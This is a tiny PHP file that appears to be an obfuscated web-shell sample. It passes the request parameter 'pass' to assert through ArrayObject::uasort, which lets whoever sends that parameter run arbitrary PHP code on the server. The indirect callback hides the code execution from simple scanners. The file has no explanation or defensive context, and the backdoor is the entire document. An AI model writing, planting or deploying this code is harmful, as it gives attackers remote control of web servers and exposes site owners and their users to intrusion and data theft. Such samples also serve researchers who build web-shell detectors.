<?php
$list = new ArrayObject(array('x', $_REQUEST['pass']));
$list->uasort('assert');
